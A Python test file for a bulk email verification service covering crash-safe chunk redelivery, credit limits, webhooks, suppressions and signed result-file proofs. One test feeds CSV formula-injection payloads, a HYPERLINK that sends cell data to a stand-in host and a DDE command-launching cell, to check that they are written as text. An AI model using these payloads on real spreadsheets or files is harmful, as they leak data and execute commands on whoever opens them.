"""Bulk verification jobs with the real stores (moto, tables from template.yaml): 500 distinct
addresses across 50 domains (and duplicates; moto takes ~0.15 s an address, so the 2,000 of the
issue belong to the e2e run), a worker that dies mid-chunk and the chunk delivered
again, exact counts and exact credits; DNS asked once per domain; credits that run out pause the
job without charging past the limit; test-mode jobs completed in the request."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import uuid
from collections import Counter
from collections.abc import Iterable
from datetime import UTC, datetime, timedelta

import pytest
from nacl.signing import VerifyKey

from postline.accounts.domain import Account, Plan
from postline.keys.access import Environment, Scope
from postline.keys.identity import Principal
from postline.shared.csv_files import S3CsvFiles
from postline.shared.errors import Conflict, NotFound, ValidationFailed
from postline.shared.ids import RandomIds
from postline.shared.mx import MailRoute
from postline.suppressions.domain import SuppressionSource, SuppressionType
from postline.suppressions.store import DynamoSuppressions
from postline.usage.domain import month_key
from postline.verification.bulk import BulkCreate, BulkJob, BulkStatus, ChunkMessage, Recorded
from postline.verification.bulk_completion import BulkCompletion
from postline.verification.bulk_service import BulkVerificationService
from postline.verification.bulk_store import DynamoBulkJobs
from postline.verification.domain import MailboxProbe, ProbeOutcome
from postline.verification.models import ValidationResult
from postline.verification.proof_service import ProofService, ProofVerifier
from postline.verification.proof_store import DynamoProofRegistry, S3ResultFiles
from postline.verification.proofs import (
    CSV_HEADER,
    DOWNLOAD_SECONDS,
    REGISTRY,
    BulkResultFile,
    FingerprintCheck,
    ProofVerifyRequest,
    ResultFile,
    SignatureCheck,
)
from postline.verification.service import ValidationService
from postline.verification.store import DynamoDomainFacts, DynamoVerificationCounters
from postline.webhook_delivery.domain import Delivery
from postline.webhooks.url_guard import ResolvingUrlGuard
from postline.wiring import signing_keys
from postline.wiring import suppressions as suppressions_root
from tests.aws_stack import InProcessStack
from tests.fakes.shared import FixedClock, SequentialIds
from tests.fakes.verification import FixedRegistrations, ScriptedProber, StaticActivity, StaticRoutes
from tests.unit.world import build_world

NOW = datetime(2026, 11, 24, 3, 0, 10, tzinfo=UTC)
DOMAINS = [f"d{n:02d}.test" for n in range(50)]


class MemoRoutes(StaticRoutes):
    """DNS as the worker process sees it: each domain asked of the 'server' once (counted)."""

    def __init__(self) -> None:
        super().__init__({d: MailRoute(mx_hosts=(f"mx.{d}",)) for d in DOMAINS})
        self._memo: dict[str, MailRoute] = {}

    def route(self, domain: str) -> MailRoute:
        if domain not in self._memo:
            self._memo[domain] = super().route(domain)
        return self._memo[domain]


class Queue:
    def __init__(self) -> None:
        self.jobs: list[BulkJob] = []
        self.completions: list[BulkJob] = []
        self.purges: list[ChunkMessage] = []
        self.checks: list[ChunkMessage] = []
        self.reads: list[ChunkMessage] = []

    def enqueue(self, job: BulkJob) -> None:
        self.jobs.append(job)

    def enqueue_completion(self, job: BulkJob) -> None:
        self.completions.append(job)

    def enqueue_purge(self, job: BulkJob) -> None:
        self.purges.append(ChunkMessage(account_id=job.account_id, job_id=job.id, chunk=-1, purge=True))

    def enqueue_resume_check(self, job: BulkJob, token: str) -> None:
        self.checks.append(ChunkMessage(account_id=job.account_id, job_id=job.id, chunk=-1, resume_token=token))

    def enqueue_read(self, job: BulkJob) -> None:
        self.reads.append(ChunkMessage(account_id=job.account_id, job_id=job.id, chunk=-1, read_file=True))

    def messages(self) -> list[ChunkMessage]:
        return [ChunkMessage(account_id=j.account_id, job_id=j.id, chunk=n) for j in self.jobs for n in range(j.chunks)]


class Dying(Exception):
    pass


class Deliveries:
    """The webhook deliverer: keeps each delivery by its id (as the store does), dies when told."""

    def __init__(self) -> None:
        self.delivered: dict[str, Delivery] = {}
        self.calls = 0
        self.die = False

    def deliver(self, delivery: Delivery) -> None:
        self.calls += 1
        if self.die:
            raise Dying("the worker was killed before the webhook went out")
        self.delivered.setdefault(delivery.id, delivery)


class Harness:
    def __init__(
        self, stack: InProcessStack, *, credits: int | None = 5_000, prober: ScriptedProber | None = None
    ) -> None:
        db = stack.client("dynamodb")
        counters = stack.env["COUNTERS_TABLE"]
        account = build_world().account(plan=Plan.PROFESSIONAL)
        self.account: Account = account.model_copy(update={"id": f"acct_{uuid.uuid4().hex[:12]}"})
        self.routes = MemoRoutes()
        # d00 is a catch-all; every address whose local part starts with "x" is unknown to its server.
        self.prober = prober or ScriptedProber({"d00.test": MailboxProbe(ProbeOutcome.ACCEPTED, True, "250 OK")})
        self.credits = DynamoVerificationCounters(db, counters)
        self.checker = ValidationService(
            routes=self.routes,
            prober=self.prober,
            registrations=FixedRegistrations(),
            facts=DynamoDomainFacts(db, counters),
            credits=self.credits,
            activity=StaticActivity(),
            complaints=DynamoSuppressions(db, stack.env["SUPPRESSIONS_TABLE"], audit_table=""),
            ids=SequentialIds(),
            clock=FixedClock(NOW),
        )
        self.die_after: int | None = None
        self.checked = 0
        self.queue = Queue()
        self.deliveries = Deliveries()
        self.suppressions = suppressions_root.suppressions()
        completion = BulkCompletion(
            jobs=DynamoBulkJobs(db, stack.env["JOBS_TABLE"], counters),
            suppressions=self.suppressions,
            deliverer=lambda: self.deliveries,
            retention_days=lambda account_id: 30,
            clock=FixedClock(NOW),
        )
        self.jobs = DynamoBulkJobs(db, stack.env["JOBS_TABLE"], counters)
        self.s3 = stack.client("s3")
        self.bucket = stack.env["EXPORTS_BUCKET"]
        self.registry = DynamoProofRegistry(db, stack.env["RESOURCES_TABLE"])
        self.proofs = ProofService(
            files=S3ResultFiles(self.s3, self.bucket),
            registry=self.registry,
            signer=signing_keys.signing_key_service,
            clock=FixedClock(NOW),
        )
        self.files = S3CsvFiles(self.s3, self.bucket)
        self.clock = FixedClock(NOW)
        self.service = BulkVerificationService(
            jobs=self.jobs,
            queue=self.queue,
            credits=self.credits,
            checker=self._checker,
            verify_limit=lambda account_id: credits,
            check_webhook_url=ResolvingUrlGuard(allow_private=False).check_without_dns,
            completion=lambda: completion,
            proofs=lambda: self.proofs,
            files=lambda: self.files,
            ids=RandomIds(),
            clock=self.clock,
        )

    def _checker(self) -> ValidationService:
        harness = self

        class MaybeDying(ValidationService):
            def check_address(self, account_id: str, address: str, now: datetime, known: object = None) -> object:  # type: ignore[override]
                if harness.die_after is not None and harness.checked >= harness.die_after:
                    raise Dying("the worker was killed")
                harness.checked += 1
                return harness.checker.check_address(account_id, address, now, known)  # type: ignore[arg-type]

        wrapped = MaybeDying.__new__(MaybeDying)
        wrapped.__dict__.update(self.checker.__dict__)
        return wrapped

    def principal(self, env: Environment = Environment.LIVE) -> Principal:
        return Principal(account=self.account, scope=Scope.FULL_ACCESS, env=env)

    def used(self) -> int:
        return self.credits.used_verifications(self.account.id, month=month_key(NOW))


def addresses() -> list[str]:
    unique = [f"u{n}@{DOMAINS[n % 50]}" for n in range(500)]
    return unique + [a.upper() for a in unique[:50]]  # duplicates, in another case


def test_a_job_killed_mid_chunk_ends_with_exact_counts_and_credits(stack: InProcessStack) -> None:
    h = Harness(stack)
    h.prober = ScriptedProber({"d00.test": MailboxProbe(ProbeOutcome.ACCEPTED, True, "250 OK")})
    accepted = h.service.start(h.principal(), BulkCreate(emails=addresses()))
    assert (accepted.status, accepted.total_count) == (BulkStatus.QUEUED, 500)
    messages = h.queue.messages()
    assert len(messages) == 5

    h.die_after = 250  # the worker dies half-way through chunk 2
    for message in messages[:2]:
        h.service.run_chunk(message)
    with pytest.raises(Dying):
        h.service.run_chunk(messages[2])
    midway = h.service.get(h.principal(), accepted.job_id)
    assert (midway.status, midway.processed_count) == (BulkStatus.PROCESSING, 250)
    assert h.used() == 250

    h.die_after = None
    for message in messages:  # SQS delivers every message again, the finished ones too
        h.service.run_chunk(message)
    for message in messages[:3]:  # and some a third time
        h.service.run_chunk(message)

    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.status, job.processed_count, job.total_count) == (BulkStatus.COMPLETED, 500, 500)
    assert h.used() == 500  # one credit per distinct address, never two
    assert h.checked == 500  # the re-runs checked only what was not recorded
    catch_all = 10  # d00's addresses: n % 50 == 0
    assert job.summary.model_dump() == {
        "valid": 500 - catch_all,
        "invalid": 0,
        "catch_all": catch_all,
        "unknown": 0,
        "do_not_mail": 0,
        "spamtrap": 0,
        "abuse": 0,
    }
    assert sorted(h.routes.asked) == sorted(DOMAINS)  # DNS asked once per domain, not per address
    page = h.service.results(h.principal(), accepted.job_id, page=3, limit=100)
    assert (page.total, page.page, page.limit, len(page.items)) == (500, 3, 100, 100)
    assert [r.address for r in page.items[:2]] == ["u200@d00.test", "u201@d01.test"]
    everything = [
        r for p in range(1, 6) for r in h.service.results(h.principal(), accepted.job_id, page=p, limit=100).items
    ]
    assert Counter(r.status.value for r in everything) == {"valid": 490, "catch_all": 10}
    assert h.service.results(h.principal(), accepted.job_id, page=6, limit=100).items == []


def test_an_address_on_the_account_s_complaints_list_is_abuse_and_not_probed(stack: InProcessStack) -> None:
    h = Harness(stack)
    h.suppressions.add(h.account.id, "Grumpy@d01.test", SuppressionType.COMPLAINTS, NOW)
    h.suppressions.add(h.account.id, "bounced@d01.test", SuppressionType.BOUNCES, NOW)  # not a complaint
    emails = ["grumpy@D01.test", "bounced@d01.test", "happy@d01.test"]
    accepted = h.service.start(h.principal(), BulkCreate(emails=emails))
    for message in h.queue.messages():
        h.service.run_chunk(message)
    job = h.service.get(h.principal(), accepted.job_id)
    assert job.status is BulkStatus.COMPLETED and (job.summary.abuse, job.summary.valid) == (1, 2)
    by_address = {r.address: r for r in h.service.results(h.principal(), accepted.job_id, page=1, limit=10).items}
    grumpy = by_address["grumpy@D01.test"]
    assert (grumpy.status.value, grumpy.sub_status, grumpy.recommendation.value, grumpy.smtp_check) == (
        "abuse",
        "known_complainer",
        "suppress",
        None,
    )
    assert grumpy.reason.startswith("grumpy@d01.test marked this account's mail as spam before")
    assert [probe[0] for probe in h.prober.probes] == ["bounced@d01.test", "happy@d01.test"]  # not the complainer
    other = Harness(stack)  # another account's list says nothing of this one's
    assert other.checker.check_address(other.account.id, "grumpy@d01.test", NOW).status.value == "valid"


def test_credits_that_run_out_pause_the_job_and_it_resumes_when_credits_are_added(stack: InProcessStack) -> None:
    limit = {"credits": 30}
    h = Harness(stack)
    h.service._verify_limit = lambda account_id: limit["credits"]
    accepted = h.service.start(h.principal(), BulkCreate(emails=[f"a{n}@d01.test" for n in range(260)]))
    for message in h.queue.messages():
        h.service.run_chunk(message)
    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.status, job.processed_count) == (BulkStatus.PAUSED, 30)
    assert job.error_message and "credits ran out" in job.error_message
    assert h.used() == 30
    (check,) = h.queue.checks  # one chain of credit checks, started by the chunk that paused it

    h.service.run_chunk(check)  # 15 minutes on: still no credit, the next check is queued
    h.service.run_chunk(check)  # the same check delivered twice: its chain does not fork
    assert len(h.queue.checks) == 2 and h.queue.checks[1].resume_token != check.resume_token
    assert h.service.get(h.principal(), accepted.job_id).status is BulkStatus.PAUSED

    limit["credits"] = 200  # the operator raises the plan (or a new month begins)
    queued_before = len(h.queue.jobs)
    h.service.run_chunk(h.queue.checks[1])
    h.service.run_chunk(h.queue.checks[1])  # delivered again: resumed once
    assert len(h.queue.jobs) == queued_before + 1  # every chunk queued again
    resumed = h.service.get(h.principal(), accepted.job_id)
    assert (resumed.status, resumed.error_message) == (BulkStatus.PROCESSING, None)
    for message in h.queue.messages()[-3:]:
        h.service.run_chunk(message)
    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.status, job.processed_count) == (BulkStatus.PAUSED, 200)  # out again at the new limit
    # Nothing charged twice. Results are recorded 25 at a time (RECORD_GROUP): a pause wastes the
    # checks of its group that found no credit (not charged; checked again after the resume): 20
    # at the first (25 + 5 of 50 recorded at 30), the whole group of 25 at the second (at 200).
    assert h.used() == 200 and h.checked == 200 + 20 + 25
    limit["credits"] = None  # unlimited
    h.service.run_chunk(h.queue.checks[-1])
    for message in h.queue.messages()[-3:]:
        h.service.run_chunk(message)
    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.status, job.processed_count, h.used(), h.checked) == (BulkStatus.COMPLETED, 260, 260, 260 + 45)
    h.service.run_chunk(h.queue.checks[-1])  # a late check of a job that moved on: nothing
    assert h.service.get(h.principal(), accepted.job_id).status is BulkStatus.COMPLETED


def test_a_test_mode_job_completes_in_the_request_without_network(stack: InProcessStack) -> None:
    h = Harness(stack)
    emails = ["valid@simulator.postline.dev", "invalid@simulator.postline.dev", "ada@d01.test", "not-an-address"]
    accepted = h.service.start(h.principal(Environment.TEST), BulkCreate(emails=emails))
    assert (accepted.status, accepted.total_count) == (BulkStatus.COMPLETED, 4)
    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.processed_count, job.summary.valid, job.summary.invalid) == (4, 2, 2)
    assert h.routes.asked == [] and h.prober.probes == [] and h.queue.jobs == [] and h.used() == 0
    page = h.service.results(h.principal(), accepted.job_id, page=1, limit=10)
    assert [r.status.value for r in page.items] == ["valid", "invalid", "valid", "invalid"]


def test_a_job_that_cannot_be_queued_is_failed_and_can_be_retried(stack: InProcessStack) -> None:
    h = Harness(stack)

    class Refusing(Queue):
        def enqueue(self, job: BulkJob) -> None:
            self.jobs.append(job)
            raise RuntimeError("SQS is down")

    h.service._queue = h.queue = Refusing()
    with pytest.raises(RuntimeError):
        h.service.start(h.principal(), BulkCreate(emails=["a@d01.test", "b@d01.test"]))
    [job] = h.queue.jobs
    stored = h.service.get(h.principal(), job.id)
    assert (stored.status, stored.can_retry, stored.error_message) == (
        BulkStatus.FAILED,
        True,
        "The job could not be queued; start it again.",
    )
    with pytest.raises(ValidationFailed, match="failed: it has no result file"):  # permanent: a 400, not a 409
        h.service.file(h.principal(), job.id)
    h.service.run_chunk(ChunkMessage(account_id=job.account_id, job_id=job.id, chunk=0))  # a message that got out
    assert h.service.get(h.principal(), job.id).processed_count == 0 and h.used() == 0


def test_completion_suppresses_and_posts_once_even_when_the_worker_dies_in_between(stack: InProcessStack) -> None:
    catch_all = MailboxProbe(ProbeOutcome.ACCEPTED, True, "250 OK")
    h = Harness(stack, prober=ScriptedProber({"d00.test": catch_all, "d02.test": MailboxProbe(ProbeOutcome.REJECTED)}))
    emails = [f"c{n}@{DOMAINS[n % 4]}" for n in range(150)]  # d02's 37 are unknown users; d00 is a catch-all
    request = BulkCreate(emails=emails, webhook_url="https://hooks.example.com/done", suppress=True)
    accepted = h.service.start(h.principal(), request)
    messages = h.queue.messages()
    h.deliveries.die = True
    h.service.run_chunk(messages[0])
    with pytest.raises(Dying):
        h.service.run_chunk(messages[1])  # completes the job, then dies before the webhook went out
    assert h.service.get(h.principal(), accepted.job_id).status is BulkStatus.COMPLETED
    h.deliveries.die = False
    for message in messages:  # SQS delivers both again
        h.service.run_chunk(message)
    h.service.run_chunk(messages[1])
    assert h.deliveries.calls == 2  # the dead attempt and the one that went out; then effects_done
    (delivery,) = h.deliveries.delivered.values()
    assert (delivery.url, delivery.endpoint_id, delivery.event_type) == (
        "https://hooks.example.com/done",
        None,
        "verification.completed",
    )
    job = h.service.get(h.principal(), accepted.job_id)
    assert json.loads(delivery.body)["job"] == job.model_dump(mode="json")
    listed = h.suppressions.present(h.account.id, SuppressionType.BOUNCES, [e.lower() for e in emails])
    assert sorted(listed) == sorted(e for e in emails if e.endswith("@d02.test"))
    entry = h.suppressions.find(h.account.id, SuppressionType.BOUNCES, "c2@d02.test")
    assert entry is not None and entry.source is SuppressionSource.VERIFICATION
    assert entry.reason == f"verification {job.job_id}: invalid/mailbox_not_found"
    assert h.used() == 150


def test_suppress_needs_a_live_key_and_a_test_jobs_webhook_goes_through_the_queue(stack: InProcessStack) -> None:
    h = Harness(stack)
    with pytest.raises(ValidationFailed):
        h.service.start(h.principal(Environment.TEST), BulkCreate(emails=["a@d01.test"], suppress=True))
    with pytest.raises(ValidationFailed):  # http:// and private addresses: the embedded runtime only
        h.service.start(h.principal(), BulkCreate(emails=["a@d01.test"], webhook_url="http://127.0.0.1/x"))
    request = BulkCreate(emails=["valid@simulator.postline.dev"], webhook_url="https://hooks.example.com/t")
    accepted = h.service.start(h.principal(Environment.TEST), request)
    (completed,) = h.queue.completions
    h.service.run_chunk(ChunkMessage(account_id=completed.account_id, job_id=accepted.job_id, chunk=-1))
    h.service.run_chunk(ChunkMessage(account_id=completed.account_id, job_id=accepted.job_id, chunk=-1))
    (delivery,) = h.deliveries.delivered.values()
    assert h.deliveries.calls == 1 and json.loads(delivery.body)["job"]["summary"]["valid"] == 1


def test_a_deleted_job_stops_where_it_is_and_its_results_are_removed(stack: InProcessStack) -> None:
    h = Harness(stack)
    accepted = h.service.start(h.principal(), BulkCreate(emails=[f"e{n}@d03.test" for n in range(300)]))
    messages = h.queue.messages()
    h.service.run_chunk(messages[0])
    running = h.jobs.get(h.account.id, accepted.job_id)
    assert running is not None
    deleted = h.service.delete(h.principal(), accepted.job_id)
    assert (deleted.status, deleted.processed_count) == (BulkStatus.DELETED, 100)
    # A worker that read the job before the DELETE records nothing more, and charges nothing.
    result = h.checker.check_address(h.account.id, "late@d03.test", NOW)
    assert h.jobs.record(running, 150, result, month=month_key(NOW), limit=5_000) is Recorded.STOPPED
    for message in messages:  # chunks delivered after the DELETE: nothing checked
        h.service.run_chunk(message)
    assert h.checked == 100 and h.used() == 100
    with pytest.raises(NotFound):
        h.service.results(h.principal(), accepted.job_id, page=1, limit=10)
    (purge,) = h.queue.purges
    assert h.jobs.results(running, page=1, limit=1000) != []
    h.service.run_chunk(purge)
    h.service.run_chunk(purge)  # delivered twice: nothing left to remove
    assert h.jobs.results(running, page=1, limit=1000) == [] and h.jobs.chunk(running, 0) == []
    again = h.service.delete(h.principal(), accepted.job_id)  # deleting again answers the deleted job
    assert again.status is BulkStatus.DELETED and len(h.queue.purges) == 2


# --- the signed result file and its proof ------------------------------------------------------


def run_all(h: Harness, request: BulkCreate) -> str:
    accepted = h.service.start(h.principal(), request)
    for message in h.queue.messages():
        h.service.run_chunk(message)
    return accepted.job_id


def test_a_completed_job_has_one_signed_file_whose_proof_checks_and_a_tampered_one_does_not(
    stack: InProcessStack,
) -> None:
    # d40-d43: domains no other test's probes taught the shared per-domain facts (catch-all) about
    h = Harness(stack, prober=ScriptedProber({"d42.test": MailboxProbe(ProbeOutcome.REJECTED)}))
    emails = [f"p{n}@{DOMAINS[40 + n % 4]}" for n in range(150)] + ["P0@D40.test", "not-an-address"]
    job_id = run_all(h, BulkCreate(emails=emails))
    job = h.service.get(h.principal(), job_id)
    assert (job.status, job.processed_count) == (BulkStatus.COMPLETED, 151)

    file = h.service.file(h.principal(), job_id)
    assert (file.rows, file.filename, file.issued, file.registry) == (151, f"{job_id}-results.csv", NOW, REGISTRY)
    assert file.expires_at == NOW + timedelta(seconds=DOWNLOAD_SECONDS)
    assert (
        file.download_url.startswith("https://") and f"verifications/{h.account.id}/{job_id}.csv" in file.download_url
    )
    body = h.s3.get_object(Bucket=h.bucket, Key=f"verifications/{h.account.id}/{job_id}.csv")["Body"].read()
    assert (len(body), hashlib.sha256(body).hexdigest()) == (file.size_bytes, file.fingerprint)
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[0] == list(CSV_HEADER) and len(rows) == 152
    assert (rows[1][:4], rows[3][:3]) == (
        ["p0@d40.test", "valid", "", "mail"],
        ["p2@d42.test", "invalid", "mailbox_not_found"],
    )
    assert rows[-1][:3] == ["not-an-address", "invalid", "failed_syntax_check"]

    # Offline, as a third party does: the published key of the kid, PyNaCl, the documented message.
    (key,) = [k for k in signing_keys.signing_key_service().published() if k.kid == file.kid]
    VerifyKey(key.public_key).verify(
        b"postline-proof.v1." + file.fingerprint.encode(), base64.b64decode(file.signature)
    )

    verifier = ProofVerifier(h.registry)
    good = verifier.verify(ProofVerifyRequest(file=body.decode()))
    assert good.model_dump() == {
        "verified": True,
        "signature": "valid",
        "fingerprint": "matches",
        "registry": REGISTRY,
        "issued": NOW,
    }
    claimed = ProofVerifyRequest(fingerprint=file.fingerprint, signature=file.signature)
    assert verifier.verify(claimed) == good
    tampered = body.decode().replace('"p2@d42.test","invalid"', '"p2@d42.test","valid"', 1)
    assert tampered != body.decode()
    mismatch = verifier.verify(
        ProofVerifyRequest(file=tampered, fingerprint=file.fingerprint, signature=file.signature)
    )
    assert (mismatch.verified, mismatch.fingerprint, mismatch.signature, mismatch.issued) == (
        False,
        FingerprintCheck.MISMATCH,
        SignatureCheck.VALID,  # the signature is the original file's: only the file changed
        NOW,
    )
    unknown = verifier.verify(ProofVerifyRequest(file=tampered))
    assert (unknown.verified, unknown.fingerprint, unknown.signature, unknown.issued) == (
        False,
        FingerprintCheck.UNKNOWN,
        SignatureCheck.UNVERIFIED,
        None,
    )
    flipped = bytearray(base64.b64decode(file.signature))
    flipped[0] ^= 1
    forged = ProofVerifyRequest(fingerprint=file.fingerprint, signature=base64.b64encode(bytes(flipped)).decode())
    bad = verifier.verify(forged)
    assert (bad.verified, bad.fingerprint, bad.signature) == (False, FingerprintCheck.MATCHES, SignatureCheck.INVALID)
    garbage = verifier.verify(ProofVerifyRequest(fingerprint=file.fingerprint, signature="not base64!"))
    assert (garbage.verified, garbage.signature) == (False, SignatureCheck.INVALID)


def test_a_result_file_cell_a_spreadsheet_would_evaluate_is_written_as_text(stack: InProcessStack) -> None:
    h = Harness(stack)
    formulas = ['=HYPERLINK("https://x.test/?"&A1)', "@SUM(1,2)", "-1+2", "+cmd|' /C calc'!A0"]
    job_id = run_all(h, BulkCreate(emails=formulas))
    body = h.s3.get_object(Bucket=h.bucket, Key=f"verifications/{h.account.id}/{job_id}.csv")["Body"].read()
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert [row[:2] for row in rows[1:]] == [["'" + formula, "invalid"] for formula in formulas]
    assert all(line.startswith('"') for line in body.decode().splitlines())  # every cell quoted


def test_packaging_cut_short_is_done_again_by_the_redelivery_and_deleting_removes_the_file(
    stack: InProcessStack,
) -> None:
    h = Harness(stack)
    real = h.proofs

    class DiesAfterWriting:
        """The worker dies after the file is written and registered, before the job records it."""

        calls = 0

        def package(self, job: BulkJob, results: Iterable[ValidationResult]) -> ResultFile:
            self.calls += 1
            real.package(job, results)
            if self.calls == 1:
                raise Dying("killed while packaging")
            return real.package(job, h.jobs.all_results(job))

        def file(self, job: BulkJob) -> BulkResultFile:
            return real.file(job)

        def remove(self, job: BulkJob) -> None:
            real.remove(job)

    dying = DiesAfterWriting()
    h.service._proofs = lambda: dying
    accepted = h.service.start(h.principal(), BulkCreate(emails=[f"k{n}@d05.test" for n in range(120)]))
    first, last = h.queue.messages()
    h.service.run_chunk(first)
    with pytest.raises(Dying):
        h.service.run_chunk(last)
    assert h.service.get(h.principal(), accepted.job_id).status is BulkStatus.PACKAGING
    with pytest.raises(Conflict):
        h.service.file(h.principal(), accepted.job_id)
    h.service.run_chunk(last)  # SQS delivers it again
    h.service.run_chunk(first)  # and an old one: nothing more
    assert dying.calls == 2
    job = h.service.get(h.principal(), accepted.job_id)
    assert (job.status, job.processed_count, job.completed_at) == (BulkStatus.COMPLETED, 120, NOW)
    file = h.service.file(h.principal(), accepted.job_id)
    entry = h.registry.get(file.fingerprint)  # the same bytes: the first attempt's entry is the proof
    assert entry is not None and (entry.signature, entry.job_id) == (file.signature, accepted.job_id)
    assert h.used() == 120

    key = f"verifications/{h.account.id}/{accepted.job_id}.csv"
    assert h.s3.list_objects_v2(Bucket=h.bucket, Prefix=key)["KeyCount"] == 1
    h.service.delete(h.principal(), accepted.job_id)
    with pytest.raises(NotFound):
        h.service.file(h.principal(), accepted.job_id)
    h.service.run_chunk(h.queue.purges[-1])
    assert h.s3.list_objects_v2(Bucket=h.bucket, Prefix=key)["KeyCount"] == 0
    assert h.registry.get(file.fingerprint) == entry  # the proof outlives the file


def test_a_test_mode_job_has_no_file(stack: InProcessStack) -> None:
    h = Harness(stack)
    accepted = h.service.start(h.principal(Environment.TEST), BulkCreate(emails=["valid@simulator.postline.dev"]))
    with pytest.raises(NotFound, match="simulated"):
        h.service.file(h.principal(), accepted.job_id)


def test_a_job_s_results_and_file_expire_30_days_after_it_was_created(stack: InProcessStack) -> None:
    h = Harness(stack)
    job_id = run_all(h, BulkCreate(emails=[f"x{n}@d06.test" for n in range(3)]))
    account_pk = {"S": f"JOB#{h.account.id}"}
    items = stack.client("dynamodb").query(
        TableName=stack.env["JOBS_TABLE"],
        KeyConditionExpression="pk = :pk AND begins_with(sk, :job)",
        ExpressionAttributeValues={":pk": account_pk, ":job": {"S": f"VERIFY#{job_id}"}},
    )["Items"]
    purge = {item["sk"]["S"].removeprefix(f"VERIFY#{job_id}"): int(item["purge_at"]["N"]) for item in items}
    assert purge[""] == int((NOW + timedelta(days=60)).timestamp())  # the job: readable as expired meanwhile
    assert {v for k, v in purge.items() if k} == {int((NOW + timedelta(days=30)).timestamp())}  # chunks, results

    almost = FixedClock(NOW + timedelta(days=30) - timedelta(seconds=60))
    h.service._clock = h.proofs._clock = almost
    assert h.service.get(h.principal(), job_id).status is BulkStatus.COMPLETED
    assert h.service.file(h.principal(), job_id).expires_at == almost.now() + timedelta(seconds=60)  # never past it

    h.service._clock = h.proofs._clock = FixedClock(NOW + timedelta(days=30))
    assert h.service.get(h.principal(), job_id).status is BulkStatus.EXPIRED
    with pytest.raises(NotFound, match="expired"):
        h.service.results(h.principal(), job_id, page=1, limit=10)
    with pytest.raises(NotFound, match="expired"):
        h.service.file(h.principal(), job_id)
    assert h.service.delete(h.principal(), job_id).status is BulkStatus.DELETED

    paused = Harness(stack, credits=2)
    paused_id = run_all(paused, BulkCreate(emails=[f"y{n}@d06.test" for n in range(3)]))
    assert paused.service.get(paused.principal(), paused_id).status is BulkStatus.PAUSED
    paused.service._clock = FixedClock(NOW + timedelta(days=30))
    assert paused.service.get(paused.principal(), paused_id).status is BulkStatus.EXPIRED
    paused.service._verify_limit = lambda account_id: None  # credits come, too late: the checks stop
    paused.service.run_chunk(paused.queue.checks[-1])
    assert len(paused.queue.jobs) == 1 and len(paused.queue.checks) == 1
    assert paused.service.get(paused.principal(), paused_id).status is BulkStatus.EXPIRED
